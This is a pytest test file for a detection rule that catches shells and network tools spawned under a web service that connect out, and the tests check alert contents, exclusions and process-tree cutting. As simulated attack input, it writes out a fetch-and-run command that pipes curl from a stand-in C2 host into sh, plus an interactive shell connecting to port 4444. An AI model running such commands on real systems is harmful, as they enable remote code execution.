# SPDX-License-Identifier: Apache-2.0
"""nsp.rce-egress: what it catches, what it leaves alone, what is cut."""

from __future__ import annotations

import pytest

from tests.support.batches import Node, workload
from tests.support.stream import cut, pipeline, rules, run, subject

EVIL = "203.0.113.9"
RCE = [("nsp.rce-egress", "CRITICAL")]


def web(node: Node) -> int:
    return node.service("/usr/sbin/nginx", ["nginx"])


@pytest.mark.parametrize(
    "tool", ["/usr/bin/dash", "/usr/bin/python3.11", "/usr/bin/curl", "/usr/bin/nc.openbsd"]
)
@pytest.mark.parametrize("way", ["connect", "ask", "send", "blocked"])
def test_a_tool_below_a_service_that_goes_out_is_caught_and_cut(tool: str, way: str) -> None:
    node = Node()
    actor = node.spawn(web(node), tool)
    if way == "connect":
        node.connect(actor, EVIL, 80)
    elif way == "ask":
        node.ask(actor, "c2.evil.example")
    elif way == "send":
        node.send(actor, EVIL, 8125)
    else:
        node.refuse(actor, EVIL, 80)
    outcome = run(node)
    assert rules(outcome) == RCE
    assert cut(outcome) == [subject(node, actor)]


def test_any_descendant_counts_and_the_whole_tree_below_the_service_is_cut() -> None:
    node = Node()
    shell = node.spawn(web(node), "/usr/bin/dash")
    deep = shell
    for _ in range(6):
        deep = node.spawn(node.fork(deep), "/opt/dropped")
    node.connect(deep, EVIL, 443)
    outcome = run(node)
    assert rules(outcome) == RCE
    assert cut(outcome) == [subject(node, shell)]


def test_the_service_itself_and_its_workers_may_go_out() -> None:
    node = Node()
    service = node.service("/usr/bin/python3.11", ["python3", "app.py"])
    worker = node.fork(service)
    for each in (service, worker):
        node.ask(each, "db.shop.svc")
        node.connect(each, "10.2.0.9", 5432)
    assert run(node).alerts == []


def test_a_shell_below_a_service_that_stays_inside_is_nobodys_business() -> None:
    node = Node()
    shell = node.spawn(web(node), "/usr/bin/dash", ["sh", "-c", "date"])
    node.spawn(shell, "/usr/bin/date")
    assert run(node).alerts == []


def test_a_helper_below_a_service_without_shell_or_tool_may_go_out() -> None:
    node = Node()
    node.connect(node.spawn(web(node), "/usr/lib/mailer"), EVIL, 25)
    assert run(node).alerts == []


@pytest.mark.parametrize("address", ["127.0.0.1", "127.8.8.8", "::1", "0.0.0.0", "10.1.2.3"])
def test_a_connection_to_the_own_workload_is_no_egress(address: str) -> None:
    node = Node()
    shell = node.spawn(web(node), "/usr/bin/curl")
    node.connect(shell, address, 6379)
    node.send(shell, address, 53)
    assert run(node).alerts == []


def test_a_question_counts_even_when_the_resolver_is_on_loopback() -> None:
    node = Node()
    node.ask(node.spawn(web(node), "/usr/bin/dash"), "evil.example", server="127.0.0.53")
    assert rules(run(node)) == RCE


@pytest.mark.parametrize(
    "fields", [{"reason": "QUARANTINED_PROCESS"}, {"hook": "PACKET_OUT"}, {"hook": "BIND"}], ids=str
)
def test_what_is_refused_because_of_an_alert_is_no_ground_for_another(fields: dict[str, str]) -> None:
    node = Node()
    node.refuse(node.spawn(web(node), "/usr/bin/dash"), EVIL, 80, **fields)
    assert run(node).alerts == []


def test_a_person_who_logged_in_is_not_an_exploit() -> None:
    node = Node()
    shell = node.spawn(node.service("/usr/sbin/sshd"), "/usr/bin/bash")
    node.connect(node.spawn(shell, "/usr/bin/curl"), EVIL, 443)
    assert run(node).alerts == []


def test_a_package_manager_below_a_management_service_is_excluded_by_default() -> None:
    node = Node()
    shell = node.spawn(node.service("/opt/agent"), "/usr/bin/dash")
    node.connect(node.spawn(shell, "/usr/lib/apt/methods/http"), "151.101.2.132", 80)
    assert run(node).alerts == []
    again = Node()
    shell = again.spawn(again.service("/opt/agent"), "/usr/bin/dash")
    again.connect(again.spawn(shell, "/usr/lib/apt/methods/http"), "151.101.2.132", 80)
    assert rules(run(again, pipeline(detect={"nsp.rce-egress": {"default_exclusions": False}}))) == RCE


def test_a_service_process_replaced_by_a_shell_is_cut_itself_and_the_alert_says_so() -> None:
    node = Node()
    service = web(node)
    shell = node.exec(service, "/usr/bin/dash", ["sh", "-i"])
    node.connect(shell, EVIL, 4444)
    outcome = run(node)
    assert cut(outcome) == [subject(node, service)]
    assert "replaced the serving program nginx" in outcome.alerts[0]["description"]


def test_the_alert_has_pod_lineage_evidence_and_name() -> None:
    node = Node()
    service = web(node)
    shell = node.spawn(service, "/usr/bin/dash", ["sh", "-c", "curl http://c2.evil.example/s | sh"])
    curl = node.spawn(shell, "/usr/bin/curl", ["curl", "http://c2.evil.example/s"])
    asked = node.ask(curl, "c2.evil.example")
    node.answer(curl, "c2.evil.example", [EVIL])
    connected = node.connect(curl, EVIL, 80)
    (alert,) = run(node).alerts
    assert (alert["workload"]["namespace"], alert["workload"]["container"]) == ("shop", "shop")
    assert [(each["executable"], each["role"]) for each in alert["lineage"]] == [
        ("/usr/bin/curl", "actor"),
        ("/usr/bin/dash", ""),
        ("/usr/bin/dash", "cut-root"),
        ("/usr/sbin/nginx", ""),
        ("/usr/sbin/nginx", "service"),
    ]
    assert [(each["kind"], each["position"]) for each in alert["evidence"]] == [
        ("DnsQuestion", asked),
        ("SocketConnect", connected),
    ]
    assert alert["evidence"][1]["summary"] == f"connect to {EVIL}:80/tcp (c2.evil.example)"
    assert (alert["dns_name"], alert["remote_address"], alert["remote_port"]) == ("c2.evil.example", EVIL, 80)
    assert set(alert["attack"]) == {"T1190", "T1071", "T1071.004", "T1059.004", "T1105"}
    tgids = [node.images[each]["tgid"] for each in (curl, shell, service)]
    assert alert["description"] == (
        f"curl ({tgids[0]}), started by way of dash ({tgids[1]}) below the serving program nginx "
        f"({tgids[2]}), connected to {EVIL}:80/tcp (c2.evil.example)."
    )


def test_the_resolver_is_not_named_as_the_destination_where_another_is_known() -> None:
    node = Node()
    curl = node.spawn(web(node), "/usr/bin/curl")
    node.connect(curl, "10.96.0.10", 53, protocol=17)
    node.ask(curl, "c2.evil.example")
    node.connect(curl, EVIL, 443)
    (alert,) = run(node).alerts
    assert (alert["remote_address"], alert["remote_port"]) == (EVIL, 443)


def test_hostile_text_is_escaped_in_sentences() -> None:
    node = Node()
    node.ask(node.spawn(web(node), "/opt/\x1b[2Jsh/bash"), "a\x1b]0;x\u202eb")
    (alert,) = run(node).alerts
    assert alert["description"].isprintable()
    assert alert["evidence"][0]["summary"].isprintable()


@pytest.mark.parametrize(
    ("exclusion", "excluded"),
    [
        ({"services": ["/usr/sbin/ng*"]}, True),
        ({"services": ["/usr/sbin/apache2"]}, False),
        ({"actors": ["*/curl"]}, True),
        ({"actors": ["*/wget"]}, False),
        ({"launchers": ["/usr/sbin/nginx"]}, True),
        ({"argv_prefix": ["curl", "-s"]}, True),
        ({"argv_prefix": ["curl", "-v"]}, False),
        ({"namespaces": ["sh*"]}, True),
        ({"namespaces": ["prod"]}, False),
        ({"labels": {"app": "shop"}}, True),
        ({"labels": {"app": "*"}}, True),
        ({"labels": {"app": "other"}}, False),
        ({"workloads": ["0b9c*"]}, True),
        ({"destinations": ["203.0.113.0/24"]}, True),
        ({"destinations": ["2001:db8::/32"]}, False),
        ({"actors": ["*/curl"], "destinations": ["198.51.100.0/24"]}, False),
        ({"actors": ["*/curl"], "namespaces": ["prod"]}, False),
    ],
)
def test_an_exclusion_applies_when_all_of_it_holds(exclusion: dict[str, object], excluded: bool) -> None:
    node = Node()
    node.connect(node.spawn(web(node), "/usr/bin/curl", ["curl", "-s", "u"]), EVIL, 80)
    detect = {"nsp.rce-egress": {"exclusions": [{"reason": "test", **exclusion}]}}
    assert rules(run(node, pipeline(detect=detect))) == ([] if excluded else RCE)


@pytest.mark.parametrize(("server", "excluded"), [("10.96.0.10", True), ("203.0.113.53", False)])
def test_a_name_excuses_a_destination_only_when_a_trusted_resolver_gave_it(
    server: str, excluded: bool
) -> None:
    node = Node()
    curl = node.spawn(web(node), "/usr/bin/curl")
    node.ask(curl, "hooks.partner.example", server=server)
    node.answer(curl, "hooks.partner.example", [EVIL], server_address=server)
    node.connect(curl, EVIL, 443)
    through = pipeline(
        correlate={"names": {"trusted_resolvers": ["10.96.0.0/16"]}},
        detect={"nsp.rce-egress": {"exclusions": [{"reason": "test", "dns_names": ["*.partner.example"]}]}},
    )
    assert rules(run(node, through)) == ([] if excluded else RCE)


def test_a_pod_that_is_not_known_is_not_excluded_by_its_labels() -> None:
    node = Node(workloads=[workload("host/worker-1/", "HOST"), workload("unknown-pod", "POD")])
    node.connect(node.spawn(web(node), "/usr/bin/curl"), EVIL, 80)
    detect = {"nsp.rce-egress": {"exclusions": [{"reason": "test", "labels": {"app": "*"}}]}}
    assert rules(run(node, pipeline(detect=detect))) == RCE


def test_a_rule_can_be_switched_off_or_be_less_severe() -> None:
    def attacked() -> Node:
        node = Node()
        node.connect(node.spawn(web(node), "/usr/bin/curl"), EVIL, 80)
        return node

    assert run(attacked(), pipeline(detect={"nsp.rce-egress": {"enabled": False}})).alerts == []
    lower = run(attacked(), pipeline(detect={"nsp.rce-egress": {"severity": "LOW"}}))
    assert rules(lower) == [("nsp.rce-egress", "LOW")]
    assert lower.enforcements == []
